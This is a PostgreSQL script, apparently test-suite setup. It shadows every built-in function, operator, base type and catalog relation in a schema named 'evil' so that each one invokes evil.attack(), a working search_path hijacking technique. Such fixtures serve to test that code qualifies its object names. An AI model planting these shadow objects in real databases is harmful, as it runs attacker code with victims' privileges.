-- Everything that the server has by a name of its own, once more in schema evil: functions, operators, types and catalogs. Whoever uses
-- one of these by its bare name, with evil first on the search path, runs the attacker's code.
DO $do$
DECLARE
    one record;
BEGIN
    FOR one IN
        SELECT p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS arguments,
               CASE WHEN p.proretset THEN 'SETOF ' ELSE '' END || pg_catalog.format_type(p.prorettype, NULL) AS returns
        FROM pg_catalog.pg_proc p JOIN pg_catalog.pg_type r ON r.oid = p.prorettype
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND r.typtype <> 'p' AND p.provariadic = 0
          AND p.proallargtypes IS NULL
          AND NOT EXISTS (SELECT FROM pg_catalog.unnest(p.proargtypes) a JOIN pg_catalog.pg_type t ON t.oid = a WHERE t.typtype = 'p')
    LOOP
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS ''BEGIN PERFORM evil.attack(); RETURN%s; END''',
                one.proname, one.arguments, one.returns, CASE WHEN one.returns LIKE 'SETOF %' THEN '' ELSE ' NULL' END);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    FOR one IN
        SELECT o.oprname, p.proname, pg_catalog.format_type(o.oprleft, NULL) AS l, pg_catalog.format_type(o.oprright, NULL) AS r
        FROM pg_catalog.pg_operator o JOIN pg_catalog.pg_proc p ON p.oid = o.oprcode
        WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprleft <> 0
    LOOP
        BEGIN
            EXECUTE pg_catalog.format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)',
                one.oprname, one.l, one.r, one.proname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    FOR one IN
        SELECT t.typname FROM pg_catalog.pg_type t
        WHERE t.typnamespace = 'pg_catalog'::regnamespace AND t.typtype = 'b' AND t.typelem = 0
    LOOP
        EXECUTE pg_catalog.format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.attack())', one.typname, one.typname);
    END LOOP;
    FOR one IN
        SELECT c.relname FROM pg_catalog.pg_class c
        WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
    LOOP
        BEGIN
            EXECUTE pg_catalog.format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.attack()', one.relname, one.relname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END
$do$;
